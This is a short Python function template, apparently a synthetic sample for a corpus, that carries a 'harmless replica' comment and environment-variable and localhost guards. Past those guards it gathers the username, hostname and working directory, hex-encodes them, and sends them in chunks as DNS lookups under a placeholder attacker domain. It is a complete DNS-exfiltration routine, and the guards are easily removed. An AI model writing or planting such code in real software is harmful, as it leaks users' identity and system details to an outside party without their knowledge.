# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import getpass
    import socket
    try:
        who = getpass.getuser()
    except Exception:
        who = 'none'
    facts = ('%s.%s.%s' % (who, socket.gethostname(), os.getcwd())).encode().hex()
    for at in range(0, min(len(facts), 300), 60):
        try:
            socket.gethostbyname('%s.%d.{{token}}.{{host}}' % (facts[at:at + 60], at))
        except OSError:
            continue
